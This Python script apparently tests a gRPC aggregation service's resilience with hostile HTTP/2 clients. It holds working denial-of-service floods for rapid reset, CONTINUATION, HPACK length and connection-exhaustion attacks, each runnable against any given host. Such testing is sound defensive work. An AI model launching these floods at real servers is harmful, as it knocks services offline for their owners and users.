"""Hostile HTTP/2 clients, by name.

    python attacks.py NAME HOST:PORT [CA]

CA: PEM file of the server's authority; the connections then use TLS.
"""

from __future__ import annotations

import contextlib
import itertools
import pathlib
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable, Iterator

import hostile
from hostile import Address, Batches, connected, endless, flood, on_threads, unfinished

DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
BATCH = 500  # frames of one send


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)


def literal(name: bytes, value: bytes) -> bytes:
    """A header that is not indexed, with lengths below 127."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def call_headers(path: bytes) -> bytes:
    """The header block of a gRPC call."""
    of_grpc = literal(b"te", b"trailers") + literal(b"content-type", b"application/grpc")
    return b"\x83\x86\x04" + bytes([len(path)]) + path + of_grpc + b"\x01\x01x"


INFO = call_headers(b"/sparseagg.v1.Aggregation/GetServerInfo")
SUBMIT = call_headers(b"/sparseagg.v1.Aggregation/SubmitUpdate")
BATCHES = call_headers(b"/sparseagg.v1.Aggregation/SubmitBatch")
UNKNOWN = call_headers(b"/x/y")
WATCH = call_headers(b"/grpc.health.v1.Health/Watch")
STREAM_RESULT = call_headers(b"/sparseagg.v1.Aggregation/StreamResult")


def calls(
    headers: bytes, flags: int = END_HEADERS, after: Callable[[int], bytes] = lambda stream: b""
) -> Callable[[], Iterator[bytes]]:
    """Calls without end, and what comes behind the headers of each."""

    def batches() -> Iterator[bytes]:
        numbers = itertools.count(1, 2)
        while True:
            batch = itertools.islice(numbers, BATCH)
            yield b"".join(frame(HEADERS, flags, stream, headers) + after(stream) for stream in batch)

    return batches


def open_calls(number: int, headers: bytes, message: bytes | None = None, is_whole: bool = True) -> Batches:
    """Calls that stay open, with a message or without."""
    flags = END_STREAM if is_whole else 0
    return unfinished(
        b"".join(
            frame(HEADERS, END_HEADERS, stream, headers)
            + (b"" if message is None else frame(DATA, flags, stream, message))
            for stream in range(1, 2 * number, 2)
        )
    )


def reset(stream: int) -> bytes:
    return frame(RESET, 0, stream, struct.pack(">I", 8))


def window_setting(size: int) -> bytes:
    return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, size))


def begun(of_headers: bytes) -> bytes:
    """A header block that goes on."""
    return frame(HEADERS, 0, 1, of_headers)


# What an attack sends, on how many connections, and whether it reads answers.
FLOODS: dict[str, tuple[Batches, int, bool]] = {
    # Streams opened and reset at once (CVE-2023-44487).
    "rapid_reset": (calls(INFO, after=reset), 1, True),
    "rapid_reset_unread": (calls(INFO, after=reset), 4, False),
    # Calls of a method that is not there.
    "unknown_methods": (calls(UNKNOWN, END_HEADERS | END_STREAM), 4, False),
    # A header block that never ends, of small headers (CVE-2024-27316).
    "continuation": (endless(begun(INFO), frame(CONTINUATION, 0, 1, literal(b"a", b"b") * 1000)), 4, True),
    # A header whose value is announced with 2 GiB (CVE-2023-33953).
    "long_string": (
        endless(begun(b"\x00\x01a\x7f\x81\xff\xff\xff\x07"), frame(CONTINUATION, 0, 1, bytes(16000))), 4, True,
    ),
    # A number with bytes that add nothing to it, without an end (CVE-2023-33953).
    "zero_varint": (
        endless(begun(b"\x00\x01a\x7f" + b"\x80" * 100), frame(CONTINUATION, 0, 1, b"\x80" * 16000)), 4, True,
    ),
    # Calls with 14 KB of headers each.
    "big_headers": (calls(INFO + literal(b"k", b"v" * 120) * 110), 4, True),
    # Calls whose message never comes.
    "no_message": (open_calls(2000, SUBMIT), 60, True),
    # Streams of the health service.
    "health_watches": (open_calls(2000, WATCH, bytes(5)), 20, True),
    "settings": (endless(b"", window_setting(65535)), 4, True),
    # The size of windows, changed to and fro while calls are open.
    "settings_toggle": (
        endless(
            b"".join(frame(HEADERS, END_HEADERS, stream, SUBMIT) for stream in range(1, 4001, 2)),
            window_setting(1) + window_setting(1 << 30),
        ), 4, True,
    ),
    "pings": (endless(b"", frame(PING, 0, 0, bytes(8))), 4, False),
    "priorities": (endless(b"", frame(PRIORITY, 0, 1, bytes(5))), 4, True),
    # Window updates of one byte.
    "small_windows": (endless(b"", frame(WINDOW, 0, 0, struct.pack(">I", 1))), 4, True),
    # DATA frames without data in one call.
    "empty_data": (endless(frame(HEADERS, END_HEADERS, 1, SUBMIT), frame(DATA, 0, 1)), 4, True),
    # Frames of a type that is not there.
    "unknown_frames": (endless(b"", frame(200, 0, 0)), 4, True),
    # Batches of 1 MiB each, of which 600 bytes come.
    "unfinished_batches": (
        open_calls(100, BATCHES, b"\x00" + (1 << 20).to_bytes(4, "big") + bytes(600), is_whole=False), 30, True,
    ),
}  # fmt: skip


def idle(address: Address) -> None:
    """1100 connections that do nothing, kept open."""
    open_connections: list[socket.socket] = []
    while True:
        with contextlib.suppress(OSError):
            open_connections.append(connected(address))
            open_connections[-1].sendall(PREFACE)
        if len(open_connections) > 1100:
            open_connections.pop(0).close()
            time.sleep(0.01)


def unread_results(address: Address) -> None:
    """3000 streams of a 2 MiB result, which are not read: 100 on each of 30 connections."""
    import numpy as np
    import sparseagg as sa

    keys = np.arange(1 << 18, dtype=np.uint32)
    with sa.Client(f"{address[0]}:{address[1]}", tls=False) as client:
        opened = client.create_round(sa.RoundSpec([sa.TensorSpec("t", "float32", num_rows=keys.size)]))
        opened.submit("c", {"t": (keys, keys.astype(np.float32))})
        opened.finish()
    name = opened.name.encode()
    request = b"\x0a" + bytes([len(name)]) + name  # StreamResultRequest.round
    message = b"\x00" + len(request).to_bytes(4, "big") + request
    flood(address, open_calls(100, STREAM_RESULT, message), connections=30, reads=False, preface=PREFACE)


def cancelled_calls(address: Address) -> None:
    """Ordinary clients that start calls and cancel them at once."""
    import grpc

    def one() -> None:
        options = [("grpc.use_local_subchannel_pool", 1)]
        with grpc.insecure_channel(f"{address[0]}:{address[1]}", options=options) as channel:
            call = channel.unary_unary("/sparseagg.v1.Aggregation/GetServerInfo")
            while True:
                call.future(b"").cancel()

    on_threads(one, 3)


def abandoned_uploads(address: Address) -> None:
    """Uploads to an open round that bring 256 KiB and begin another message, stall, and vanish with their connection:
    20 on each of 30 connections."""
    import sparseagg as sa
    from sparseagg.v1 import aggregation_pb2 as pb

    with sa.Client(f"{address[0]}:{address[1]}", tls=False) as client:
        opened = client.create_round(sa.RoundSpec([sa.TensorSpec("t", "float32", num_rows=1 << 20)])).name

    def upload(stream: int) -> bytes:
        tuples = pb.TensorSlice(
            tensor="t",
            key_encoding=pb.KEY_ENCODING_U32,
            value_encoding=pb.VALUE_ENCODING_FLOAT32,
            keys=bytes(1 << 17),
            values=bytes(1 << 17),
        )
        chunk = pb.UpdateChunk(round=opened, client_id=f"c{stream}", submission_id="s", slices=[tuples])
        message = chunk.SerializeToString()
        data = b"\x00" + len(message).to_bytes(4, "big") + message + b"\x00" + (1 << 20).to_bytes(4, "big") + bytes(600)
        parts = (data[at : at + (1 << 14)] for at in range(0, len(data), 1 << 14))
        return frame(HEADERS, END_HEADERS, stream, SUBMIT) + b"".join(frame(DATA, 0, stream, part) for part in parts)

    flood(address, lambda: map(upload, range(1, 41, 2)), connections=30, preface=PREFACE, pause=0.2)


def lying_batches(address: Address) -> None:
    """Batches of 10,000 clients that announce 2^32 - 1 tuples each and bring 25,000 in all, and batches of keys that
    need no bytes: 1024 of each client."""
    import grpc
    import numpy as np
    import sparseagg as sa
    from sparseagg.v1 import aggregation_pb2 as pb

    target = f"{address[0]}:{address[1]}"
    ids = "\n".join(f"client-{number:06}" for number in range(10_000))
    tensor = sa.TensorSpec("t", "float32", num_rows=1 << 20)
    with sa.Client(target, tls=False) as client:
        sums = client.create_round(sa.RoundSpec([tensor])).name
        union = client.create_round(sa.RoundSpec([tensor], op="union")).name

    def batch(round_name: str, num_keys: int, **tuples: object) -> bytes:
        lengths = np.full(10_000, num_keys, np.uint32).tobytes()
        slices = [pb.TensorSlice(tensor="t", **tuples)]
        request = pb.SubmitBatchRequest(
            round=round_name, client_ids=ids, submission_id="s", num_keys=lengths, slices=slices
        )
        return request.SerializeToString()

    lie = batch(sums, 0xFFFFFFFF, key_encoding=pb.KEY_ENCODING_U32, keys=bytes(100_000), values=bytes(100_000))
    free = batch(union, 1 << 10, key_encoding=pb.KEY_ENCODING_IMPLICIT, value_encoding=pb.VALUE_ENCODING_NONE)

    def one() -> None:
        with grpc.insecure_channel(target, options=[("grpc.use_local_subchannel_pool", 1)]) as channel:
            call = channel.unary_unary("/sparseagg.v1.Aggregation/SubmitBatch")
            for request in itertools.cycle([lie, free]):
                with contextlib.suppress(grpc.RpcError):
                    call(request)

    on_threads(one, 4)


OTHERS = {
    attack.__name__: attack for attack in (idle, unread_results, cancelled_calls, abandoned_uploads, lying_batches)
}
ATTACKS = [*FLOODS, *OTHERS]


def command(name: str, address: str, *ca: str) -> list[str]:
    """The command line of an attack."""
    return [sys.executable, str(pathlib.Path(__file__)), name, address, *ca]


if __name__ == "__main__":
    host, _, port = sys.argv[2].rpartition(":")
    if len(sys.argv) > 3:
        hostile.tls = ssl.create_default_context(cafile=sys.argv[3])
        hostile.tls.set_alpn_protocols(["h2"])
    if sys.argv[1] in OTHERS:
        OTHERS[sys.argv[1]]((host, int(port)))
    else:
        batches, connections, reads = FLOODS[sys.argv[1]]
        # An attacker that has sent all looks whether that was enough, before it closes.
        flood((host, int(port)), batches, connections, reads, PREFACE, pause=0.2)
